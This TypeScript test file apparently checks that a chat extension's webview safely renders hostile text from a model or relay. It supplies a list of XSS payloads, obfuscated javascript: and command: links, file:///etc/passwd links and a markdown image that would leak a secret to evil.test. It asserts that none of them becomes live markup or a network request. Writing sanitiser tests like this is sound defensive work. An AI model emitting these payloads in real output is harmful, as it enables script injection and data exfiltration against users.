import { deepStrictEqual } from 'node:assert/strict';
import type { TurnView } from '../../src/protocol/protocolViews.ts';
import { makeSnapshot, makeTurn } from './chatFacts.ts';
import { type ChatPage, openChatPage } from './chatPage.ts';

/** What a model could write, or be made to write, to attack the person who reads it. */
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src="https://evil.test/a.png" onerror="alert(1)">',
  'text <svg onload=alert(1)><a href="javascript:alert(1)">x</a></svg>',
  '<iframe src="https://evil.test/"></iframe><object data="https://evil.test/"></object>',
  '<style>@import "https://evil.test/a.css"; body { background: url(https://evil.test/b.png) }</style>',
  '<link rel="stylesheet" href="https://evil.test/c.css"><meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<form action="https://evil.test"><input name="key"><button>Send</button></form>',
  '<base href="https://evil.test/"><video src="https://evil.test/v.mp4" autoplay></video>',
  '![picture](https://evil.test/track.png?secret=1)',
  '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![html](data:text/html,<script>alert(1)</script>)',
  '![relative](picture.png) ![file](file:///etc/passwd) ![x](vscode-resource:/x.png)',
  '[run](command:workbench.action.terminal.new) [js](javascript:alert(1)) [js](JaVa\\\nScript:alert(1))',
  '[js](java&#x09;script:alert(1)) [js](&#106;avascript:alert(1)) [vb](vbscript:x) [d](data:text/html,x)',
  '[code](vscode://file/etc/passwd) [file](file:///etc/passwd) [rel](/etc/passwd) [hash](#top) []()',
  '<javascript:alert(1)> <command:a.b> <vscode://x>',
  '[reference]\n\n[reference]: javascript:alert(1) "title\' onclick=alert(1)"',
  '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
  '```<img/src=x>\ncode\n```',
  '`<b>` **<i>** &lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;',
  '| <script>alert(1)</script> | ![p](https://evil.test/t.png) |\n| - | - |\n| <b onclick=x> | x |',
  '[^<img src=x>]: note\n\n[^<img src=x>]',
  'https://evil.test/"onclick="alert(1) www.evil.test/<script>',
  '# <h1 id="chat">\n\n1. <li value=3>\n\n> <blockquote cite="https://evil.test">',
];

/** Everything that drawn text may consist of. */
const allowed: Readonly<Record<string, readonly string[]>> = {
  A: ['role', 'tabindex', 'title', 'data-href', 'data-footnote', 'class', 'aria-label'],
  BUTTON: ['type', 'class', 'aria-label', 'title', 'tabindex', 'aria-pressed'],
  'CHAT-TEXT': ['class', 'data-drawn'],
  DIV: ['class', 'role', 'data-footnote-text', 'tabindex', 'aria-label'],
  IMG: ['src', 'alt'],
  INPUT: ['type', 'disabled', 'checked', 'aria-label'],
  LI: ['class'],
  OL: ['start'],
  PRE: ['role', 'aria-label'],
  SPAN: ['class', 'aria-hidden', 'data-code', 'role', 'tabindex', 'aria-label'],
  TH: ['scope', 'class'],
  TD: ['class'],
  ...Object.fromEntries(['H3', 'H4', 'H5', 'H6', 'P'].map((tag) => [tag, ['class']])),
  ...Object.fromEntries(
    ['BLOCKQUOTE', 'BR', 'CODE', 'DEL', 'EM', 'HR', 'STRONG', 'SUP', 'TABLE', 'TBODY', 'TR', 'UL'].map(
      (tag) => [tag, []],
    ),
  ),
};

interface Drawn {
  /** Each element within drawn text, with the names of its attributes. */
  readonly elements: readonly { readonly tagName: string; readonly names: readonly string[] }[];
  readonly text: string;
  readonly protocols: readonly string[];
  readonly undrawn: number;
}

describe('text from a model or a relay', () => {
  let chat: ChatPage;
  const drawn: Drawn[] = [];

  before(async () => {
    chat = await openChatPage();
    await chat.tell({ type: 'model', model: { id: attacks[0] ?? '', label: attacks[1] ?? '' } });
    // One at a time, because the page draws no turns that are out of view.
    for (const text of attacks) {
      await chat.tell(makeSnapshot(makeHostileTurn(text)));
      drawn.push(await chat.page.evaluate(readDrawn));
    }
  });
  after(() => chat.close());

  it('never becomes an element or an attribute of its own', () => {
    const strange = drawn
      .flatMap(({ elements }) => elements)
      .flatMap(({ tagName, names }) =>
        names
          .filter((name) => !allowed[tagName]?.includes(name))
          .map((name) => `${tagName} ${name}`)
          .concat(allowed[tagName] ? [] : [tagName]),
      );
    const empty = drawn.filter(({ elements, undrawn }) => elements.length < 2 || undrawn > 0);
    deepStrictEqual(
      { turns: drawn.length, empty, strange },
      { turns: attacks.length, empty: [], strange: [] },
    );
  });

  it('sends no request, and violates no policy of the page', () => {
    deepStrictEqual(
      { requests: chat.foreignRequests, problems: chat.problems },
      { requests: [], problems: [] },
    );
  });

  it('links to the web, to mail and to files of the workspace only', () => {
    const protocols = new Set(drawn.flatMap((answer) => answer.protocols));
    deepStrictEqual([...protocols], ['https:', 'picture.png', 'http:']);
  });

  it('shows where a blocked link would lead', () => {
    deepStrictEqual(
      drawn[12]?.text,
      [
        'run (command:workbench.action.terminal.new) js (javascript:alert(1)) [js](JaVa',
        'Script:alert(1))',
      ].join(''),
    );
  });
});

/** A turn with this text in every part that does not come from us. */
function makeHostileTurn(text: string): TurnView {
  return makeTurn({
    id: 'turn',
    prompt: text,
    model: text,
    text,
    status: 'failed',
    failure: {
      title: text,
      advice: [text],
      relayMessage: text,
      requestId: text,
      actions: [{ id: 'tryAgain', label: text }],
    },
  });
}

function readDrawn(): Drawn {
  const markdown = document.querySelector('.answer .markdown');
  return {
    elements: [...document.querySelectorAll('.markdown, .markdown *')].map(({ tagName, attributes }) => ({
      tagName,
      names: [...attributes].map(({ name }) => name),
    })),
    text: markdown?.textContent ?? '',
    protocols: [...document.querySelectorAll<HTMLElement>('[data-href]')].map(({ dataset }) => {
      const { href = '' } = dataset;
      return URL.canParse(href) ? new URL(href).protocol : href;
    }),
    undrawn: document.querySelectorAll('.undrawn').length,
  };
}
